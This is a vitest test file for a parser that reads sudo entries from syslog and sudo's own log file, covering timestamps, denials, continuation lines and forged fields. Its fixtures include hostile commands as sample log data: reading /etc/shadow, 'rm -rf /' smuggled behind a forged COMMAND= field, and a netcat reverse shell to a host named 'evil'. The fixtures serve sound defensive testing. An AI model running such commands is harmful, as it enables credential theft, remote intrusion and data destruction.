import { describe, expect, it } from 'vitest';
import { lineBlock } from '../../../src/sources/line-block.js';
import { appendOutput, emptyOutput, parseBlock } from '../../../src/sources/parser.js';
import { sudoPartLimit } from '../../../src/sources/parsers/sudo-message.js';
import { createSudoSyslogParser } from '../../../src/sources/parsers/sudo-syslog.js';
import { NOW, baseOptions, run } from './parser-harness.js';

const parser = () => createSudoSyslogParser(baseOptions);

describe('sudo syslog parser', () => {
  it('parses an accepted command with the invoking user, target user and cwd', () => {
    const line =
      'Nov 24 14:23:28 web-1 sudo[4211]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx';
    const { events, malformed } = run(parser(), [line]);
    expect(malformed).toEqual([]);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      time: new Date('2026-11-24T14:23:28Z'),
      host: 'web-1',
      user: 'alice',
      runAs: 'root',
      cwd: '/home/alice',
      pid: 4211,
      argv: ['/usr/bin/systemctl', 'restart', 'nginx'],
      command: '/usr/bin/systemctl restart nginx',
      exe: '/usr/bin/systemctl',
      sourceFormat: 'sudo',
      extra: { tty: 'pts/0' },
    });
    expect(events[0]!.sudoDenied).toBeUndefined();
    expect(events[0]!.eventKey).toMatch(/^sudo:[0-9a-f]{40}$/);
  });

  it('gives the same eventKey when the same line is read again, and different keys to different lines', () => {
    const a = 'Nov 24 14:23:28 web-1 sudo[1]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls';
    const b = 'Nov 24 14:23:29 web-1 sudo[2]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls';
    const first = run(parser(), [a, b]).events.map((e) => e.eventKey);
    const again = run(parser(), [a, b]).events.map((e) => e.eventKey);
    expect(again).toEqual(first);
    expect(new Set(first).size).toBe(2);
  });

  it('keys a line with its year: the same line a year later is another event, the same day read again is not', () => {
    const line = 'Nov 24 14:23:28 web-1 sudo[1]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/backup';
    const keyAt = (now: string) => run(parser(), [line], new Date(now)).events.map((e) => e.eventKey)[0];
    expect(keyAt('2026-11-24T15:00:00Z')).toBe(keyAt('2026-11-26T09:00:00Z'));
    expect(keyAt('2027-11-24T15:00:00Z')).not.toBe(keyAt('2026-11-24T15:00:00Z'));
  });

  it('reads RFC 5424-style ISO timestamps and RFC 5424 framing', () => {
    const iso =
      '2026-11-24T14:23:28.123456+01:00 db-2 sudo[77]:      bob : TTY=pts/3 ; PWD=/srv ; USER=postgres ; COMMAND=/usr/bin/psql';
    const framed =
      '<85>1 2026-11-24T14:23:29.5Z db-2 sudo 78 - - bob : TTY=pts/3 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/id';
    const { events, malformed } = run(parser(), [iso, framed]);
    expect(malformed).toEqual([]);
    expect(events.map((e) => [e.time.toISOString(), e.host, e.pid, e.runAs])).toEqual([
      ['2026-11-24T13:23:28.123Z', 'db-2', 77, 'postgres'],
      ['2026-11-24T14:23:29.500Z', 'db-2', 78, 'root'],
    ]);
  });

  it('infers the year of an RFC 3164 date as the most recent past one', () => {
    const line = 'Dec 31 23:59:59 web-1 sudo[9]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/date';
    const { events } = run(parser(), [line], new Date('2027-01-02T00:00:00Z'));
    expect(events[0]!.time.toISOString()).toBe('2026-12-31T23:59:59.000Z');
    const padded = 'Nov  4 09:05:01 web-1 sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/date';
    const second = run(parser(), [padded]).events[0]!;
    expect(second.time.toISOString()).toBe('2026-11-04T09:05:01.000Z');
    expect(second.pid).toBeNull();
  });

  it.each([
    ['user NOT in sudoers'],
    ['user NOT authorized on host'],
    ['command not allowed'],
    ['3 incorrect password attempts'],
    ['a password is required'],
  ])('marks the denial "%s"', (reason) => {
    const line = `Nov 24 14:30:00 web-1 sudo[500]:  mallory : ${reason} ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow`;
    const { events, malformed } = run(parser(), [line]);
    expect(malformed).toEqual([]);
    expect(events[0]).toMatchObject({
      user: 'mallory',
      runAs: 'root',
      sudoDenied: true,
      denialReason: reason,
      argv: ['/bin/cat', '/etc/shadow'],
    });
  });

  it('keeps sudo error strings with the denial reason', () => {
    const line =
      'Nov 24 14:30:00 web-1 sudo[501]:  mallory : unable to execute /bin/x : Permission denied ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/x';
    expect(run(parser(), [line]).events[0]!.denialReason).toBe('unable to execute /bin/x : Permission denied');
  });

  it('joins (command continued) lines to the message of the same sudo process', () => {
    const p = parser();
    const first =
      'Nov 24 14:24:00 web-1 sudo[5000]:    alice : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/tar czf /backup/a.tgz /srv/one';
    const other = 'Nov 24 14:24:00 web-1 sudo[5001]:      bob : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/true';
    const continued = 'Nov 24 14:24:00 web-1 sudo[5000]:    alice : (command continued) /srv/two /srv/three';
    expect(p.push(first, 0, NOW).events).toEqual([]);
    expect(p.lowWaterMark()).toBe(0);
    expect(p.push(other, 200, NOW).events).toEqual([]);
    expect(p.push(continued, 400, NOW).events).toEqual([]);
    expect(p.lowWaterMark()).toBe(0);
    const pam = 'Nov 24 14:24:00 web-1 sudo[5000]: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)';
    const released = p.push(pam, 600, NOW);
    expect(released.events.map((e) => e.argv)).toEqual([
      ['/usr/bin/tar', 'czf', '/backup/a.tgz', '/srv/one', '/srv/two', '/srv/three'],
    ]);
    // Cut at a space that fitted: nothing about the argv is a guess.
    expect(released.events[0]?.extra?.argv_inexact).toBeUndefined();
    expect(p.lowWaterMark()).toBe(200);
    expect(p.flush().events.map((e) => e.user)).toEqual(['bob']);
    expect(p.lowWaterMark()).toBeNull();
  });

  it('releases a held message after the timeout, measured by the now given to push()', () => {
    const p = createSudoSyslogParser({ ...baseOptions, eventTimeoutMs: 2000 });
    const line = 'Nov 24 14:24:00 web-1 sudo[1]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls';
    expect(p.push(line, 0, NOW).events).toEqual([]);
    const unrelated = 'Nov 24 14:24:01 web-1 sshd[3]: Accepted publickey for alice from 10.0.0.1 port 5 ssh2';
    expect(p.push(unrelated, 100, new Date(NOW.getTime() + 1999)).events).toEqual([]);
    const out = p.push(unrelated, 200, new Date(NOW.getTime() + 2000));
    expect(out.events.map((e) => e.command)).toEqual(['/bin/ls']);
    expect(out.malformed).toEqual([]);
  });

  it('reports a continuation whose first part is missing as an incomplete event', () => {
    const line = 'Nov 24 14:24:00 web-1 sudo[42]:    alice : (command continued) /srv/two';
    const { events, malformed } = run(parser(), [line]);
    expect(events).toEqual([]);
    expect(malformed.map((m) => m.reason)).toEqual(['incomplete_event']);
  });

  it('decodes #ooo escapes for control characters and spaces in the path', () => {
    const line =
      'Nov 24 14:24:00 web-1 sudo[7]:    alice : TTY=pts/0 ; PWD=/home/alice/my#040dir ; USER=root ; COMMAND=/opt/my#040tools/run a#012b #123 tab#011x';
    const event = run(parser(), [line]).events[0]!;
    expect(event.argv).toEqual(['/opt/my tools/run', 'a\nb', '#123', 'tab\tx']);
    expect(event.cwd).toBe('/home/alice/my dir');
    // sudo does not escape a literal #, so #012 may have been typed as it is: a best reading.
    expect(event.extra?.argv_inexact).toBe('true');
  });

  it('says a command whose # sequences may be literal text is a best reading, and only then', () => {
    const line = (command: string) => `Nov 24 14:24:00 web-1 sudo[7]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=${command}`;
    const events = run(parser(), [line('/bin/echo #057etc#057shadow'), line('/bin/echo #123 #9 issue#42'), line('/bin/ls -la')]).events;
    expect(events.map((e) => e.extra?.argv_inexact)).toEqual(['true', undefined, undefined]);
  });

  it('splits single-quoted arguments (sudo 1.9.13+) with \\\' and \\\\ escapes', () => {
    const line =
      "Nov 24 14:24:00 web-1 sudo[8]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'echo it\\'s a \\\\ test' done";
    expect(run(parser(), [line]).events[0]!.argv).toEqual(['/bin/sh', '-c', "echo it's a \\ test", 'done']);
  });

  it('splits older logs on spaces, keeping a stray quote as text', () => {
    const line =
      "Nov 24 14:24:00 web-1 sudo[8]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo don't stop";
    expect(run(parser(), [line]).events[0]!.argv).toEqual(['/bin/echo', "don't", 'stop']);
  });

  it('keeps GROUP, TSID and ENV, and reads commands containing " ; "', () => {
    const line =
      "Nov 24 14:24:00 web-1 sudo[9]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; GROUP=wheel ; TSID=00000A ; ENV=FOO=bar ; COMMAND=/bin/sh -c 'a ; b'";
    const event = run(parser(), [line]).events[0]!;
    expect(event.argv).toEqual(['/bin/sh', '-c', 'a ; b']);
    expect(event.extra).toMatchObject({ run_group: 'wheel', tsid: '00000A', env: 'FOO=bar', tty: 'pts/0' });
  });

  it('never hides the real command behind a forged COMMAND= in a directory name', () => {
    const line =
      'Nov 24 14:24:00 web-1 sudo[10]:    alice : TTY=pts/0 ; PWD=/tmp/x ; COMMAND=/bin/true ; USER=root ; COMMAND=/bin/rm -rf /';
    const event = run(parser(), [line]).events[0]!;
    expect(event.command).toContain('/bin/rm -rf /');
  });

  it('drops the exit record (log_exit_status) of a command already seen, keeps an orphan one', () => {
    const accept = 'Nov 24 14:24:00 web-1 sudo[11]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sleep 5';
    const exit = 'Nov 24 14:24:05 web-1 sudo[11]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sleep 5 ; EXIT=0';
    expect(run(parser(), [accept, exit]).events.map((e) => e.command)).toEqual(['/bin/sleep 5']);
    const orphan = run(parser(), [exit]).events;
    expect(orphan.map((e) => [e.command, e.extra?.exit_status])).toEqual([['/bin/sleep 5', '0']]);
  });

  it('skips other programs, PAM and sudo diagnostics silently', () => {
    const lines = [
      'Nov 24 14:24:00 web-1 sshd[100]: Accepted publickey for alice from 10.0.0.1 port 22 ssh2',
      'Nov 24 14:24:00 web-1 CRON[200]: pam_unix(cron:session): session opened for user root',
      'Nov 24 14:24:00 web-1 sudo[300]: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000',
      'Nov 24 14:24:00 web-1 sudo: unable to resolve host web-1: Name or service not known',
      'Nov 24 14:24:00 web-1 sudo[301]:    alice : problem with defaults entries ; TTY=pts/0 ; PWD=/ ; USER=root',
      '',
    ];
    expect(run(parser(), lines)).toEqual({ events: [], malformed: [] });
  });

  it('reports sudo lines that do not parse, and lines that are not syslog', () => {
    const lines = [
      'Nov 24 14:24:00 web-1 sudo[1]:    alice : TTY=pts/0 ; PWD=/ho',
      'Nov 24 14:24:00 web-1 sudo[2]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=',
      'this is not syslog',
      'garbage \ufffd\ufffd\ufffd',
      'Nov 24 14:24:00 web-1 sudo[3]: \u0000\u0001\u0002',
    ];
    const { events, malformed } = run(parser(), lines);
    expect(events).toEqual([]);
    expect(malformed.map((m) => m.reason)).toEqual(['unrecognized', 'invalid_utf8', 'binary', 'truncated', 'truncated']);
  });

  it('keeps commands containing replacement characters and hostile text as plain data', () => {
    const line =
      'Nov 24 14:24:00 web-1 sudo[4]:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo <!channel> <script>x</script> \ufffd';
    const event = run(parser(), [line]).events[0]!;
    expect(event.argv).toEqual(['/bin/echo', '<!channel>', '<script>x</script>', '\ufffd']);
  });

  it('understands sudo JSON sent over syslog as @cee', () => {
    const line =
      'Nov 24 14:24:00 web-1 sudo[12]: @cee:{"sudo":{"accept":{"uuid":"u-1","submituser":"alice","submithost":"web-1","runuser":"root","runargv":["id","-u"],"command":"/usr/bin/id","submit_time":{"seconds":1795530240,"nanoseconds":0}}}}';
    const event = run(parser(), [line]).events[0]!;
    expect(event).toMatchObject({ user: 'alice', runAs: 'root', argv: ['id', '-u'], pid: 12, sourceFormat: 'sudo' });
  });

  it('joins a character sudo cut in two between (command continued) parts whole, without a space', () => {
    // sudo cuts a word at a byte count: the first continuation ends with the first byte of an é
    // (exactly its limit), the next begins with the second, each invalid UTF-8 on its own line.
    const word = Buffer.from(`x${'é'.repeat(600)}`);
    const limit = sudoPartLimit('alice', true);
    const head = 'Nov 24 14:23:28 web-1 sudo[42]:    alice : ';
    const lines = [
      Buffer.from(`${head}TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/echo p\n`),
      Buffer.concat([Buffer.from(`${head}(command continued) `), word.subarray(0, limit), Buffer.from('\n')]),
      Buffer.concat([Buffer.from(`${head}(command continued) `), word.subarray(limit), Buffer.from(' next\n')]),
    ];
    expect(word[limit - 1]).toBe(0xc3);
    const bytes = Buffer.concat(lines);
    const p = parser();
    const out = emptyOutput();
    parseBlock(p, lineBlock(bytes, 0, bytes.length, 0), NOW, out);
    appendOutput(out, p.flush());
    expect(out.malformed).toEqual([]);
    expect(out.events.map((e) => e.argv)).toEqual([['/bin/echo', 'p', `x${'é'.repeat(600)}`, 'next']]);
  });
});

describe("sudo parser: sudo's own log file", () => {
  const entry = '    COMMAND=/bin/cat /etc/shadow';
  it('joins a wrapped entry, and counts a wrapped line without the line it continues', () => {
    const lines = ['    USER=root ; COMMAND=/bin/ls', 'Nov 24 14:23:28 : alice : TTY=pts/0 ; PWD=/tmp ; USER=root ;', entry];
    const { events, malformed } = run(createSudoSyslogParser(baseOptions), lines);
    expect(malformed.map((m) => m.reason)).toEqual(['incomplete_event']);
    expect(events.map((e) => [e.user, e.runAs, e.cwd, e.command, e.attribution, e.extra?.argv_inexact])).toEqual([['alice', 'root', '/tmp', '/bin/cat /etc/shadow', 'shipper', undefined]]);
  });

  it('trusts entries of that shape no more than syslog in a stream read from its middle (an HTTP request)', () => {
    const lines = ['Nov 24 14:23:28 : alice : TTY=pts/0 ; PWD=/tmp ; USER=root ;', entry];
    const { events } = run(createSudoSyslogParser({ ...baseOptions, midStream: true }), lines);
    expect(events.map((e) => [e.user, e.command, e.attribution])).toEqual([['alice', '/bin/cat /etc/shadow', 'syslog-unverified']]);
  });

  it('trusts entries of that shape no more than syslog once a syslog line was read, and ends a held one there', () => {
    const lines = [
      'Nov 24 14:23:00 web-1 sudo:      bob : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id',
      'Nov 24 14:23:28 : alice : HOST=db-prod ; TTY=pts/0 ; PWD=/tmp ; USER=root ;',
      '    COMMAND=/bin/cat /etc/shadow',
      'Nov 24 14:23:29 web-1 logger: hello',
      "    /bin/sh -c 'nc -e /bin/sh evil 4444'",
    ];
    const { events, malformed } = run(createSudoSyslogParser(baseOptions), lines);
    expect(events.map((e) => [e.user, e.command, e.attribution ?? null]).sort()).toEqual([
      ['alice', '/bin/cat /etc/shadow', 'syslog-unverified'],
      ['bob', '/usr/bin/id', null],
    ]);
    expect(malformed.map((m) => m.reason)).toEqual(['incomplete_event']);
  });

  it('joins a long wrapped entry in linear time', () => {
    const lines = ['Nov 24 14:23:28 : alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/echo', ...Array<string>(40_000).fill(`    ${'w'.repeat(70)}`)];
    const started = performance.now();
    const { events } = run(createSudoSyslogParser(baseOptions), lines);
    expect(performance.now() - started).toBeLessThan(5000);
    expect(events.map((e) => [e.argv.length, e.extra?.argv_inexact])).toEqual([[40_001, 'true']]);
  });

  it('reads log_year dates, and refuses a date that cannot be', () => {
    const at = (stamp: string) => run(createSudoSyslogParser(baseOptions), [`${stamp} : alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls`]);
    expect(at('Feb 29 10:00:00 2024').events[0]?.time.toISOString()).toBe('2024-02-29T10:00:00.000Z');
    expect(at('Dec 31 23:59:59 2019').events[0]?.time.toISOString()).toBe('2019-12-31T23:59:59.000Z');
    expect(at('Feb 29 10:00:00 2023').malformed.map((m) => m.reason)).toEqual(['unrecognized']);
  });

  it('is what --format auto picks for such a file', async () => {
    const { detectFormat } = await import('../../../src/sources/parsers/detect-format.js');
    expect(detectFormat(['Dec  7 23:39:48 : alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id', entry])).toBe('sudo');
    expect(detectFormat(['Dec  7 23:39:49 2026 : dave : HOST=vm ; TTY=pts/0 ; PWD=/tmp ; USER=root ;'])).toBe('sudo');
  });
});
